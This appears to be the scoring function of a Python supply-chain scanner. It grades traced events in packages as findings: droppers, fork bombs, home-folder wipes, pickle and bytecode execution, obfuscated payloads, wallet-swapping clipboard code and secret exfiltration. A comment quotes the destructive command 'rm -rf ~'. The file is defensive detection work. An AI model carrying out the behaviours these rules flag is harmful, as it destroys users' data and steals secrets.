LITERAL_URL = LazyPattern(r"https?://[a-z0-9.-]+\.[a-z]{2,}", re.IGNORECASE)


def score(path: str, found: Trace) -> list[PackageFinding]:  # noqa: PLR0912, PLR0915 -- one branch per sink kind
    """Findings for one file's trace, at most one per rule and line (the worst)."""
    out: dict[tuple[str, int], PackageFinding] = {}

    def add(rule: str, line: int, severity: Severity, why: str) -> None:
        key = (rule, line)
        if key not in out or out[key].severity < severity:
            out[key] = PackageFinding(rule, path, line, severity, why)

    network_lines, secret_lines = [], []
    found.events[:] = envurl.unmarked(found.events)  # a mark no sink settled (ADR 0131)
    for event in found.events:
        eager = event.when is not When.LATER
        verdict: tuple[str, Severity] | None = None
        if event.kind == "module-load" and DROPPED in event.labels:
            # A download made a module or put where imports look (ADR 0086). At install
            # time it is also how ``ez_setup`` bootstraps setuptools from the index: held.
            install = event.when is When.INSTALL
            verdict = ("dropper", Severity.HIGH if install else Severity.CRITICAL)
        elif event.kind in ("exec", "native-load") and DROPPED in event.labels:
            verdict = ("dropper", Severity.CRITICAL)  # runs a file downloaded data went to
        elif event.kind == "exec":
            verdict = _exec(event, eager)
        elif event.kind == "process":
            verdict = _process(event, eager)
        elif event.kind == "network":
            verdict = _network(event, eager)
            network_lines.append(event.line)
        elif event.kind == "open":
            verdict = _open(event, eager)
        elif event.kind == "write":
            verdict = _write(event, eager)
        elif event.kind == hostile.FORK_LOOP and eager:
            verdict = ("destruction", Severity.CRITICAL)  # a fork bomb (ADR 0085)
        elif event.kind == "delete" and (WIPED_FOLDER.match(event.text) or WIPED in event.labels):
            # ``rm -rf ~`` spelt in Python: as :data:`WIPER` judges it in a command.
            verdict = ("destruction", Severity.CRITICAL if eager else Severity.HIGH)
        elif event.kind == "opaque-load" and pickledconst.PICKLED_CODE in event.labels:
            # A constant pickle calling a gadget: denied as the member it could be (0126).
            verdict = ("pickle-exec", Severity.CRITICAL)
        elif event.kind == "opaque-load" and event.labels & {DECODED} and eager:
            verdict = ("marshal-load", Severity.CRITICAL)  # decoded bytecode or pickle, run
        elif event.kind == "opaque-load" and event.labels & {REMOTE} and eager:
            # A download unpickled on install or import runs the sender's code (ADR 0083).
            verdict = ("remote-exec", Severity.CRITICAL)
        elif event.kind == "opaque-load" and event.labels & {DECODED, REMOTE}:
            # Dataset fetchers unpickle what they download, when asked to (scikit-learn).
            verdict = ("marshal-load", Severity.MEDIUM)
        elif event.kind == "opaque-load" and eager:
            verdict = ("marshal-load", Severity.MEDIUM)
        elif event.kind == "native-load" and eager:
            verdict = ("native-load", Severity.MEDIUM)
        if event.labels & {SECRET, ENV}:
            secret_lines.append(event.line)
        if verdict is not None and event.resumed and verdict[1] > Severity.HIGH:
            # Reached past the walk's bounds: which branch runs is less sure (ADR 0096).
            why = f"{_why(event, verdict[0].replace('-', ' '))} {PAST_BOUNDS}"
            add(verdict[0], event.line, Severity.HIGH, why)
        elif verdict is not None:
            add(verdict[0], event.line, verdict[1], _why(event, verdict[0].replace("-", " ")))
        if event.kind == "clipboard":
            # A clipper swaps wallet addresses; editors (prompt_toolkit) copy text when asked.
            bad = eager or WALLET.search(event.text)
            add(
                "clipboard",
                event.line,
                Severity.HIGH if bad else Severity.LOW,
                "reads or writes the clipboard"
                + (" with a wallet address" if WALLET.search(event.text) else "")
                + (f" {event.when.value}" if eager else ""),
            )
    for line, text, labels in found.recovered:
        if not _texty(text):
            continue  # decoded binary data (an image in a docs example) is not code
        # A test vector's example.com URL names no endpoint (ADR 0141).
        judged = examplehosts.without_example_urls(text) if "://" in text else text
        if HIDDEN_PAYLOAD.search(judged) and labels & {DECODED, HIDDEN}:
            add(
                "hidden-payload",
                line,
                Severity.CRITICAL,
                "a string recovered by decoding or folding holds code or a URL: "
                + text[:80].encode("unicode_escape").decode(),
            )
        elif _shady(judged) or (DROPPER.search(judged) and DECODED in labels):
            add("hidden-payload", line, Severity.CRITICAL, "decoded string names an endpoint")
    _clipper([e for e in found.events if e.kind == "clipboard"], add)
    # Whether the module connects to a host written in its code, asked by three rules.
    hosted = hostsent.written_host(found.events)
    _weights_sent(found.events, hosted, add)
    _sent_to_written_host(found.events, hosted, add)
    _sdk_credentials_sent(found.events, hosted, add)
    fetchedmodule.judged(found.events, add)  # a download imported from sys.path (0171)
    memory = [e for e in found.events if e.kind == "memory"]
    if memory:
        _memory(memory, add)
    hidden_strings = [line for line, _, labels in found.recovered if HIDDEN in labels]
    if len(hidden_strings) >= 3:
        add(
            "string-obfuscation",
            hidden_strings[0],
            Severity.CRITICAL,
            f"{len(hidden_strings)} strings are built through builtins reached by name "
            "(getattr/__import__ with chr maps): code that hides what it calls",
        )
    if found.budget_spent:
        add(
            "analysis-budget",
            0,
            Severity.HIGH,
            f"module too large to trace within {MAX_STEPS} steps: the rest was not read",
        )
    if found.across_spent:
        add(
            "analysis-budget",
            0,
            Severity.HIGH,
            "its calls on install or import into the archive's other modules need more than "
            "airlock's reading budget: those past it were not read",
        )
    if found.unread:
        add(
            "analysis-budget",
            0,
            Severity.HIGH,
            f"past airlock's reading bounds, not read: {found.unread}",
        )
    if network_lines and secret_lines:
        add(
            "secret-and-network",
            secret_lines[0],
            Severity.MEDIUM,  # auth libraries do both; only a traced flow is exfiltration
            "reads secrets and talks to the network in the same file",
        )
    for hooked in hook_findings(path, found) if found.hooks else []:
        add(hooked.rule, hooked.line, hooked.severity, hooked.explanation)
    return list(out.values())
